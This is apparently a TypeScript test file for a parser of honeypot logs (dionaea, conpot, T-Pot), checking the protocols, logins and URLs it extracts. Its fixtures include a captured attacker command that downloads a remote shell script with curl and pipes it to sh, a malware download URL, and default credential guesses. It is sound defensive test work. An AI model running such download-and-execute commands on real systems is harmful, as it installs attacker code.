import assert from 'node:assert/strict'
import { test } from 'node:test'
import { formatAddress } from '@hirundo/base'
import type { Interaction } from '../interaction/model.ts'
import { readLog, sampleLines } from '../testing/logs.ts'

const short = ({ src, src_port, dst_port, transport, protocol, handshake }: Interaction) => [formatAddress(src), src_port, dst_port, transport, protocol, handshake]
const withoutSource = (some: readonly Interaction[]): string => JSON.stringify(some.map((one) => ({ ...one, src: '', sample: Buffer.from(one.sample).toString('latin1') })))

test('dionaea: connections with logins in lists and in its flat form, downloads and commands', () => {
  const { outcomes, interactions } = readLog('dionaea', sampleLines('dionaea.json'))
  assert.deepEqual(outcomes, ['event', 'event', 'event', 'skipped', 'event', 'event', 'bad'])
  assert.deepEqual(interactions.map(short), [
    ['198.51.100.23', 41022, 445, 'tcp', 'smb', 'dialogue'], ['203.0.113.9', 50000, 1433, 'tcp', 'mssql', 'dialogue'], ['203.0.113.10', 50001, 21, 'tcp', 'ftp', 'dialogue'],
    ['203.0.113.12', 80, 123, 'udp', 'ntp', 'none'], ['203.0.113.13', 5004, 8443, 'tcp', 'pcap', 'none'],
  ])
  const [smb, mssql, ftp, , reject] = interactions
  assert.deepEqual([smb!.urls, smb!.facts['file.md5']], [['http://203.0.113.9/m.exe'], '0123456789abcdef0123456789abcdef'])
  assert.deepEqual(mssql!.logins, [{ user: 'sa', password: '' }, { user: 'sa', password: '123' }])
  assert.deepEqual(ftp!.logins, [{ user: 'anonymous', password: 'a@b.example' }, { user: 'ftp', password: 'x' }])
  assert.equal(ftp!.facts['ftp.commands'], 'USER anonymous | PORT xxxxxxxxxx,4,1')
  assert.deepEqual([reject!.facts['dionaea.p0f.genre'], reject!.facts['dionaea.connection']], ['Linux', 'reject'])
  assert.doesNotMatch(withoutSource(interactions), /192\.0\.2\./)
})

test('conpot: a session of Modbus with its functions, requests over UDP, a web request', () => {
  const { outcomes, interactions } = readLog('conpot', sampleLines('conpot.json'))
  assert.deepEqual(outcomes.slice(6), ['event', 'bad'])
  assert.deepEqual(interactions.map(short), [
    ['198.51.100.23', 41022, 502, 'tcp', 'modbus', 'dialogue'], ['203.0.113.9', 5000, 161, 'udp', 'snmp', 'none'], ['203.0.113.10', 5001, 80, 'tcp', 'http', 'dialogue'],
  ])
  const [modbus, snmp, http] = interactions
  assert.deepEqual(modbus!.facts, { 'modbus.function': '43 | 3', 'modbus.unit': '10 | 1' })
  assert.equal(Buffer.from(modbus!.sample).toString('hex'), '0000000000050a2b0e0100')
  assert.equal(modbus!.duration_ms, 3000)
  assert.deepEqual([snmp!.requests, snmp!.facts['conpot.request']], [2, 'SNMPv1 Get: 1.3.6.1.2.1.1.1.0 None | SNMPv1 Get: 1.3.6.1.2.1.1.5.0 None'])
  assert.deepEqual([http!.facts['http.path'], http!.urls], ['/index.html', ['/index.html']])
  assert.doesNotMatch(withoutSource(interactions), /192\.0\.2\.|plant-decoy/)
})

test('T-Pot: each hit goes to the reader of its honeypot, in any order; what it is not told of becomes an interaction of its own', () => {
  const { outcomes, interactions } = readLog('tpot', sampleLines('tpot.ndjson'))
  assert.deepEqual(outcomes, ['event', 'event', 'event', 'event', 'event', 'event', 'event', 'event', 'skipped', 'event', 'event', 'skipped', 'bad'])
  const of = (src: string) => interactions.find((one) => formatAddress(one.src) === src)!
  assert.equal(interactions.length, 8)
  assert.deepEqual(short(of('198.51.100.23')), ['198.51.100.23', 41022, 22, 'tcp', 'ssh', 'dialogue'])
  assert.equal(of('198.51.100.23').at_ms, Date.UTC(2026, 10, 1, 10))
  assert.deepEqual([of('203.0.113.9').protocol, of('203.0.113.9').logins], ['mysql', [{ user: 'root', password: '' }]])
  assert.deepEqual(short(of('203.0.113.10')).slice(2), [102, 'tcp', 's7comm', 'dialogue'])
  assert.deepEqual([of('203.0.113.11').handshake, of('203.0.113.11').facts['alert.sid']], ['none', '9000004'])
  assert.deepEqual([of('203.0.113.12').protocol, of('203.0.113.12').urls], ['adb', ['http://203.0.113.66/a.sh']])
  assert.equal(of('203.0.113.12').facts['tpot.adbhoney.input'], 'cd /tmp; curl http://203.0.113.66/a.sh | sh; echo xxxxxxxxxxx')
  assert.deepEqual(short(of('203.0.113.13')).slice(2), [123, 'udp', 'ntp', 'none'])
  assert.deepEqual([...short(of('203.0.113.14')).slice(1), of('203.0.113.14').logins.length], [50005, 110, 'tcp', 'pop3', 'dialogue', 1])
  assert.deepEqual([...short(of('203.0.113.15')).slice(2), Buffer.from(of('203.0.113.15').sample).toString('hex')], [1900, 'udp', 'ssdp', 'none', '0102c0000201'])
  assert.doesNotMatch(withoutSource(interactions), /192\.0\.2\.|10\.0\.0\.5|decoyhost|country/)
})
